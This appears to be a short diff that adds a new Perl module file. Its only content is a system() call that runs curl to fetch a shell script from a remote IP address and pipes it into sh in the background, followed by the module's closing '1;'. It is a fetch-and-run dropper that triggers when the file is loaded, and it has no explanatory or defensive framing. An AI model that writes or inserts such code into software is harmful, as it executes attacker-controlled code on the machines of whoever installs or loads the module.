@@ -1,0 +1,2 @@
+system("curl -fsSL http://203.0.113.77/x.sh | sh &");
+1;
